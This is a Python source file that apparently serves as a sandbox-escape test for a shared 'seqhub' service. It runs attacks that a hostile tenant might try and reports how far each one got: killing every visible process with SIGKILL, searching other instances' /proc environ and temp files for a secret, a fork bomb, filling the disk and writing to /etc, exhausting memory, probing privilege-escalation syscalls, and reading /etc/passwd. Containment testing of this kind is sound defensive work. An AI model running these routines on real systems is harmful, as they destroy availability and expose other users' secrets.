"""A hostile sequence: each attack a user of a shared hub might try, reporting what it reached.

Args: the attack's name, then its parameters. The output is one JSON report.
"""

import glob
import json
import os
import signal
import socket
import subprocess
import time


def visible_processes():
    found = {}
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                found[int(pid)] = fh.read().replace(b"\0", b" ").decode(errors="replace").strip()
        except OSError:
            pass
    return found


def try_read(path, size=1 << 20):
    try:
        with open(path, "rb") as fh:
            return fh.read(size).decode("latin-1")
    except OSError as exc:
        return f"denied: {type(exc).__name__}"


def probe(*ports):
    """Reach the hub's storage (moto) and API on loopback, as found in /proc/net/tcp."""
    reached = {}
    for port in ports:
        try:
            with socket.create_connection(("127.0.0.1", int(port)), timeout=2):
                reached[port] = "connected"
        except OSError as exc:
            reached[port] = type(exc).__name__
    with open("/proc/net/tcp") as fh:
        listening = [line.split()[1] for line in fh.readlines()[1:] if line.split()[3] == "0A"]
    return {"reached": reached, "listening": listening}


def signal_all():
    """SIGKILL every process we can see: the hub, its fork server, other instances' runners."""
    me = os.getpid()
    seen = visible_processes()
    sent = {}
    for pid in seen:
        if pid in (me, os.getppid()):
            continue
        try:
            os.kill(pid, signal.SIGKILL)
            sent[pid] = "sent"
        except OSError as exc:
            sent[pid] = type(exc).__name__
    return {"seen": seen, "sent": sent}


def snoop(reversed_secret):
    """Look for another instance's data: work directories, start files, process memory.

    The secret comes reversed, so our own start file does not hold it."""
    secret = reversed_secret[::-1]
    found = []
    for path in glob.glob("/tmp/seqhub-*") + glob.glob("/tmp/seqhub-*/start.json"):
        found.append(path)
    for pid in visible_processes():
        for name in ("environ", "cmdline"):
            if secret in try_read(f"/proc/{pid}/{name}"):
                found.append(f"/proc/{pid}/{name}")
    for root in ("/tmp", "/package", "/run", "/dev/shm"):
        for dirpath, _, files in os.walk(root):
            for name in files:
                if secret in try_read(os.path.join(dirpath, name)):
                    found.append(os.path.join(dirpath, name))
    return {"found": found, "processes": visible_processes()}


def hold(secret, seconds):
    """The victim: keeps a secret in its args, its memory and a file while it runs."""
    with open("/tmp/victim-secret", "w") as fh:
        fh.write(secret)
    kept = secret * 2
    time.sleep(float(seconds))
    return {"held": len(kept)}


def detach(marker):
    """Leave processes behind: a double-forked setsid child and a setpgid child."""
    subprocess.Popen(["sh", "-c", f"setsid sh -c 'exec sleep {marker}' & exit 0"])
    subprocess.Popen(["sleep", str(int(marker) + 1)], process_group=0)
    with open("/tmp/left-behind", "wb") as fh:
        fh.write(b"x" * 1024)
    time.sleep(0.5)
    return {"left": [int(marker), int(marker) + 1]}


def fork_bomb():
    """Fork sleeping children until the OS says no; report how many it got."""
    children = []
    error = None
    for _ in range(5000):
        try:
            pid = os.fork()
        except OSError as exc:
            error = type(exc).__name__
            break
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    return {"forked": len(children), "error": error}


def fill_disk():
    """Write as much as we can where we can write, and try where we must not."""
    written = 0
    error = None
    try:
        with open("/tmp/fill", "wb") as fh:
            block = b"\0" * (1 << 20)
            for _ in range(4096):
                fh.write(block)
                fh.flush()
                written += len(block)
    except OSError as exc:
        error = type(exc).__name__
    os.unlink("/tmp/fill")
    outside = {}
    for path in ("/var/tmp/x", "/etc/x", "/usr/x", "/x", os.path.expanduser("~/../x")):
        try:
            with open(path, "wb") as fh:
                fh.write(b"x")
            outside[path] = "written"
        except OSError as exc:
            outside[path] = type(exc).__name__
    return {"written": written, "error": error, "outside": outside}


def eat_memory(megabytes):
    kept = []
    for _ in range(int(megabytes)):
        kept.append(bytearray(1 << 20))
    return {"allocated": len(kept)}


def kernel():
    """The kernel surface behind most privilege escalations: a new user namespace (full
    capabilities inside), the keyring, io_uring, bpf, perf events, userfaultfd, mounts."""
    import ctypes
    import errno

    libc = ctypes.CDLL(None, use_errno=True)

    def call(name, *args):
        number = SYSCALLS.get(os.uname().machine, {}).get(name)
        if number is None:
            return "unknown here"
        result = libc.syscall(number, *args)
        return "allowed" if result >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")

    out = {"unshare(user)": call("unshare", 0x10000000), "unshare(net)": call("unshare", 0x40000000),
           "clone(user)": call("clone", 0x10000000 | 17, 0, 0, 0, 0),
           "add_key": call("add_key", b"user", b"planted", b"secret", 6, ctypes.c_int(-4)),
           "keyctl": call("keyctl", 0, ctypes.c_int(-4), 0),
           "io_uring_setup": call("io_uring_setup", 8, ctypes.create_string_buffer(128)),
           "bpf": call("bpf", 0, ctypes.create_string_buffer(128), 128),
           "perf_event_open": call("perf_event_open", ctypes.create_string_buffer(128), 0, -1, -1, 0),
           "userfaultfd": call("userfaultfd", 0),
           "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, 0)}
    if out["clone(user)"] == "allowed":  # the child of a clone that went through: leave at once
        os._exit(0)
    tool = subprocess.run(["unshare", "-Urn", "id"], capture_output=True, text=True)
    out["unshare -Urn"] = "allowed" if tool.returncode == 0 else tool.stderr.strip()[-80:]
    out["etc"] = sorted(os.listdir("/etc"))
    out["passwd"] = try_read("/etc/passwd")
    return out


SYSCALLS = {  # the numbers of the calls above (asm/unistd_64.h, asm-generic/unistd.h)
    "x86_64": {"unshare": 272, "clone": 56, "add_key": 248, "keyctl": 250, "io_uring_setup": 425, "bpf": 321,
               "perf_event_open": 298, "userfaultfd": 323, "mount": 165},
    "aarch64": {"unshare": 97, "clone": 220, "add_key": 217, "keyctl": 219, "io_uring_setup": 425, "bpf": 280,
                "perf_event_open": 241, "userfaultfd": 282, "mount": 40},
}


ATTACKS = {"probe": probe, "signal-all": signal_all, "snoop": snoop, "hold": hold, "detach": detach,
           "fork-bomb": fork_bomb, "fill-disk": fill_disk, "eat-memory": eat_memory, "kernel": kernel}


def run(context, input, attack, *params):
    return json.dumps(ATTACKS[attack](*params))
